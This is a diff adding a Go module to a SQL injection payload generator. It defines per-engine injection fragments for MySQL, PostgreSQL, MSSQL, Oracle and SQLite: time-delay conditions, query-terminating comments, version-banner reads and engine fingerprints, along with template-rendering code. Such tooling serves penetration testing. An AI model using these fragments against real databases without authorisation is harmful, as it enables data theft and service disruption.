@@ -0,0 +1,177 @@
+package modules
+
+import (
+	"fmt"
+	"strings"
+
+	"github.com/rajaabdullahnasir/Custom-Payload-Generator/utils"
+)
+
+// sqlDialect holds the engine-specific syntax substituted into sqli.json templates.
+// A template is rendered for a dialect only if the dialect defines every placeholder it uses.
+type sqlDialect struct {
+	Name string
+	// Sleep is a condition that stalls the query for {{sleep_seconds}}
+	Sleep string
+	// Concat joins two string expressions
+	Concat string
+	// Comment terminates the rest of the original query
+	Comment string
+	// Version is an expression returning the server version banner
+	Version string
+	// Fingerprint is a condition that is only valid (and true) on this engine
+	Fingerprint string
+	// FromDual is appended to a SELECT without a table, required by Oracle
+	FromDual string
+}
+
+// sqlDialects lists the supported database engines in the order they are generated
+var sqlDialects = []sqlDialect{
+	{
+		Name:        "mysql",
+		Sleep:       "SLEEP({{sleep_seconds}})=0",
+		Concat:      "CONCAT(%s,%s)",
+		Comment:     "-- -",
+		Version:     "@@version",
+		Fingerprint: "CONNECTION_ID()=CONNECTION_ID()",
+	},
+	{
+		Name:        "postgresql",
+		Sleep:       "1=(SELECT 1 FROM PG_SLEEP({{sleep_seconds}}))",
+		Concat:      "%s||%s",
+		Comment:     "--",
+		Version:     "version()",
+		Fingerprint: "PG_BACKEND_PID()=PG_BACKEND_PID()",
+	},
+	{
+		// MSSQL has no delay function usable in an expression; its WAITFOR payloads are stacked
+		Name:        "mssql",
+		Concat:      "%s+%s",
+		Comment:     "--",
+		Version:     "@@version",
+		Fingerprint: "@@SPID=@@SPID",
+	},
+	{
+		Name:        "oracle",
+		Sleep:       "1=DBMS_PIPE.RECEIVE_MESSAGE(CHR(112),{{sleep_seconds}})",
+		Concat:      "%s||%s",
+		Comment:     "--",
+		Version:     "(SELECT banner FROM v$version WHERE ROWNUM=1)",
+		Fingerprint: "ROWNUM=ROWNUM",
+		FromDual:    " FROM dual",
+	},
+	{
+		// SQLite cannot sleep; hashing a large random blob takes roughly a second per 100MB
+		Name:        "sqlite",
+		Sleep:       "1=LIKE(CHAR(65),UPPER(HEX(RANDOMBLOB({{sleep_seconds}}00000000))))",
+		Concat:      "%s||%s",
+		Comment:     "--",
+		Version:     "sqlite_version()",
+		Fingerprint: "SQLITE_VERSION()=SQLITE_VERSION()",
+	},
+}
+
+// genericSQLDialect is used for engine-agnostic payloads when no --dbms is given. MySQL only
+// starts a comment at "-- " followed by whitespace or a character, so "-- -" works on every engine.
+var genericSQLDialect = sqlDialect{Comment: "-- -"}
+
+// vars returns the dialect's placeholder values; unsupported constructs are left out
+func (d sqlDialect) vars() utils.Vars {
+	vars := utils.Vars{"from_dual": {d.FromDual}}
+	for name, value := range map[string]string{
+		"sleep":       d.Sleep,
+		"concat":      fmt.Sprintf(d.Concat, "'{{marker}}'", "'{{marker}}'"),
+		"comment":     d.Comment,
+		"version":     d.Version,
+		"fingerprint": d.Fingerprint,
+	} {
+		if value != "" {
+			vars[name] = []string{value}
+		}
+	}
+	return vars
+}
+
+// sqlDialectPlaceholders are the placeholders that make a template engine-specific
+var sqlDialectPlaceholders = map[string]bool{
+	"sleep": true, "concat": true, "comment": true, "version": true, "fingerprint": true, "from_dual": true,
+}
+
+// render substitutes the dialect's syntax into a template; ok is false if the dialect
+// cannot express one of the placeholders the template uses
+func (d sqlDialect) render(tpl string) (string, bool) {
+	vars := d.vars()
+	for _, name := range utils.Placeholders(tpl) {
+		if sqlDialectPlaceholders[name] && len(vars[name]) == 0 {
+			return "", false
+		}
+	}
+	return utils.ExpandTemplate(tpl, vars)[0].Text, true
+}
+
+// usesSQLDialect reports whether a template contains engine-specific placeholders
+func usesSQLDialect(tpl string) bool {
+	for _, name := range utils.Placeholders(tpl) {
+		if sqlDialectPlaceholders[name] {
+			return true
+		}
+	}
+	return false
+}
+
+// SQLDialectNames returns the names accepted by --dbms
+func SQLDialectNames() []string {
+	var names []string
+	for _, d := range sqlDialects {
+		names = append(names, d.Name)
+	}
+	return names
+}
+
+// ParseDBMS parses a comma-separated --dbms value; "all" selects every engine
+func ParseDBMS(spec string) ([]string, error) {
+	var names []string
+	for _, name := range strings.Split(spec, ",") {
+		name = strings.ToLower(strings.TrimSpace(name))
+		if name == "all" {
+			return SQLDialectNames(), nil
+		}
+		if _, ok := lookupSQLDialect(name); !ok {
+			return nil, fmt.Errorf("unknown DBMS %q (available: %s)", name, strings.Join(SQLDialectNames(), ", "))
+		}
+		names = append(names, name)
+	}
+	return names, nil
+}
+
+// sqlDialectFor returns the dialect a rendered payload targets, or the generic one
+func sqlDialectFor(name string) sqlDialect {
+	if d, ok := lookupSQLDialect(name); ok {
+		return d
+	}
+	return genericSQLDialect
+}
+
+func lookupSQLDialect(name string) (sqlDialect, bool) {
+	for _, d := range sqlDialects {
+		if d.Name == name {
+			return d, true
+		}
+	}
+	return sqlDialect{}, false
+}
+
+// sqlDialects returns the engines selected for this run; every engine when --dbms is not given
+func (o Options) sqlDialects() []sqlDialect {
+	if len(o.DBMS) == 0 {
+		return sqlDialects
+	}
+
+	var dialects []sqlDialect
+	for _, name := range o.DBMS {
+		if d, ok := lookupSQLDialect(name); ok {
+			dialects = append(dialects, d)
+		}
+	}
+	return dialects
+}